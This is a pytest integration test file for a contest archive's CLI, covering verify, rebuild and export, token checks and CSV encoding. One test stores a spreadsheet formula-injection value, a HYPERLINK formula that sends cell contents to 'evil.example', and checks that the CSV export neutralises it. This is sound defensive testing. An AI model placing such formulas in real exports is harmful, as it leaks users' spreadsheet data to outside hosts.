"""`cityprize archive verify|rebuild|export` against a running archive and the real broker."""

from __future__ import annotations

import asyncio
import csv
import json
import stat
import uuid
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
import uvicorn
from typer.testing import CliRunner, Result

import archive.main
from archive.repository import Archive
from archive.settings import ArchiveSettings
from cityprize.archive_cli import archive_app
from cityprize.local import ensure_staff_token
from contracts.envelope import Event
from contracts.events import SubmissionReceived
from contracts.subjects import Stream, durable_name
from servicekit.broker import publish_event
from servicekit.embedded.ports import free_port
from tests.support.archive_story import contest_story
from tests.support.service_apps import broker_of
from tests.support.waiting import consumer_drained, eventually

TOKEN = "cli-staff-token"


@pytest.fixture
def extra_events() -> list[Event]:
    """Events archived after the story; a test overrides it by parametrizing `extra_events`."""
    return []


@pytest.fixture
async def archive_url(
    nats_url: str, mongo_client: Any, monkeypatch: pytest.MonkeyPatch, extra_events: list[Event]
) -> AsyncIterator[str]:
    """The archive served over real HTTP, with a small contest archived."""
    name = f"cli_{uuid.uuid4().hex[:12]}"
    port = free_port()
    settings = ArchiveSettings(
        nats_url=nats_url,
        mongodb_database=name,
        rebuild_database=f"{name}_rebuild",
        staff_token=TOKEN,
        http_port=port,
        graceful_timeout_seconds=5,
    )
    app = archive.main.create_app(settings, mongo_client=mongo_client)
    server = uvicorn.Server(uvicorn.Config(app, port=port, log_config=None, access_log=False))
    serving = asyncio.create_task(server.serve())

    async def started() -> bool:
        return bool(server.started)

    await eventually(started, what="the archive serving HTTP")
    story = [*contest_story(seed=5, submissions=2), *extra_events]
    for event in story:
        await publish_event(broker_of(app), event)
    store = Archive(mongo_client[name])
    await eventually(
        lambda: store.events.count_documents({"sealed": True}),
        until=lambda sealed: sealed == len(story),
        what="the contest archived",
    )
    await consumer_drained(nats_url, Stream.EVENTS, durable_name("archive", "archive-event"))
    monkeypatch.setenv("NATS_URL", nats_url)
    monkeypatch.setenv("STAFF_TOKEN", TOKEN)
    url = f"http://127.0.0.1:{port}"
    monkeypatch.setenv("ARCHIVE_URL", url)
    yield url
    server.should_exit = True
    await serving
    await mongo_client.drop_database(name)
    await mongo_client.drop_database(f"{name}_rebuild")


async def cli(*args: str) -> Result:
    # The CLI runs its own event loop; a thread keeps this test's loop free to serve it.
    return await asyncio.to_thread(CliRunner().invoke, archive_app, list(args))


async def test_staff_verify_rebuild_and_export_from_the_cli(archive_url: str, tmp_path: Path):
    verified = await cli("verify")
    assert verified.exit_code == 0, verified.output
    assert "chain intact" in verified.output

    rebuilt = await cli("rebuild")
    assert rebuilt.exit_code == 0, rebuilt.output
    assert "equal to the live records" in rebuilt.output

    target = tmp_path / "submissions.csv"
    exported = await cli("export", str(target), "--format", "csv")
    assert exported.exit_code == 0, exported.output
    rows = list(csv.DictReader(target.open()))
    assert [row["submission_id"] for row in rows] == ["s-000", "s-001"]


@pytest.mark.parametrize("lost", ["everything", "the last five events"])
async def test_verify_fails_on_an_archive_that_lacks_events_and_a_restore_brings_them_back(
    archive_url: str, mongo_client: Any, lost: str
):
    [name] = [n for n in await mongo_client.list_database_names() if n.startswith("cli_")]
    events = mongo_client[name].events
    stored = await events.count_documents({})
    if lost == "everything":
        await mongo_client.drop_database(name)
    else:
        tail = await events.find({}, {"_id": 1}).sort("stream_seq", -1).limit(5).to_list(5)
        await events.delete_many({"_id": {"$in": [doc["_id"] for doc in tail]}})

    refused = await cli("verify")
    assert refused.exit_code == 1, refused.output
    missing = stored if lost == "everything" else 5
    assert f"archive INCOMPLETE: {missing} events of the stream are missing" in refused.output

    restored = await cli("rebuild", "--restore")
    assert restored.exit_code == 0, restored.output
    assert f"{missing} restored" in restored.output

    async def verified() -> Result:
        return await cli("verify")

    again = await eventually(verified, until=lambda r: r.exit_code == 0, what="verify to pass")
    assert "chain intact" in again.output
    assert "archive complete" in again.output
    assert await events.count_documents({"sealed": True}) == stored


async def test_an_export_with_a_wrong_token_writes_no_file(
    archive_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.setenv("STAFF_TOKEN", "wrong")
    target = tmp_path / "submissions.json"
    refused = await cli("export", str(target), "--format", "json")
    assert refused.exit_code == 1
    assert "401" in refused.output
    assert not target.exists()


HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open plan")'
KOREAN = "서울 스마트 도시 개방 사업"


def _submission(submission_id: str, title: str, city: str) -> SubmissionReceived:
    first = next(e for e in contest_story(seed=5) if isinstance(e, SubmissionReceived))
    return first.model_copy(
        update={
            "event_id": uuid.uuid4().hex,
            "submission_id": submission_id,
            "title": title,
            "city": city,
            "application": {"title": title},
        }
    )


@pytest.mark.parametrize(
    "extra_events",
    [[_submission("s-100", HYPERLINK, "@cmd"), _submission("s-101", KOREAN, "+SUM(1)")]],
)
async def test_a_formula_title_is_exported_inert_to_csv_and_as_written_to_json(
    archive_url: str, tmp_path: Path
):
    as_csv, as_json = tmp_path / "submissions.csv", tmp_path / "submissions.json"
    assert (await cli("export", str(as_csv), "--format", "csv")).exit_code == 0
    assert (await cli("export", str(as_json), "--format", "json")).exit_code == 0
    rows = {row["submission_id"]: row for row in csv.DictReader(as_csv.open(encoding="utf-8"))}
    assert rows["s-100"]["title"] == "'" + HYPERLINK
    assert rows["s-100"]["city"] == "'@cmd"
    assert rows["s-101"]["city"] == "'+SUM(1)"
    records = {r["submission_id"]: r for r in json.loads(as_json.read_text(encoding="utf-8"))}
    assert (records["s-100"]["title"], records["s-101"]["city"]) == (HYPERLINK, "+SUM(1)")


@pytest.mark.parametrize("extra_events", [[_submission("s-101", KOREAN, "Seoul")]])
async def test_a_csv_export_with_bom_opens_as_utf8_in_excel(archive_url: str, tmp_path: Path):
    target = tmp_path / "submissions.csv"
    exported = await cli("export", str(target), "--format", "csv", "--bom")
    assert exported.exit_code == 0, exported.output
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert not raw[3:].startswith(b"\xef\xbb\xbf"), "one BOM, not one per chunk"
    rows = list(csv.DictReader(raw.decode("utf-8-sig").splitlines()))
    assert KOREAN in [row["title"] for row in rows]
    assert next(iter(rows[0])) == "contest_id"


async def test_without_bom_the_csv_starts_with_its_header(archive_url: str, tmp_path: Path):
    target = tmp_path / "submissions.csv"
    assert (await cli("export", str(target), "--format", "csv")).exit_code == 0
    assert target.read_bytes().startswith(b"contest_id,")


async def test_bom_is_refused_for_a_json_export(archive_url: str, tmp_path: Path):
    target = tmp_path / "submissions.json"
    refused = await cli("export", str(target), "--format", "json", "--bom")
    assert refused.exit_code == 2
    assert "--bom applies to the CSV export only" in refused.output
    assert not target.exists()


async def test_an_export_finds_the_archive_and_the_staff_token_where_up_writes_them(
    archive_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    var = tmp_path / "var"
    monkeypatch.setenv("CITYPRIZE_VAR", str(var))
    token_file = ensure_staff_token(var)  # STAFF_TOKEN is set: `up` keeps it
    (var / "endpoints.json").write_text(json.dumps({"archive": archive_url}))
    monkeypatch.delenv("STAFF_TOKEN")
    monkeypatch.delenv("ARCHIVE_URL")
    target = tmp_path / "submissions.csv"

    exported = await cli("export", str(target))

    assert exported.exit_code == 0, exported.output
    assert stat.S_IMODE(token_file.stat().st_mode) == 0o600
    assert TOKEN not in (var / "endpoints.json").read_text()
    assert TOKEN not in exported.output
    assert len(list(csv.DictReader(target.open()))) == 2
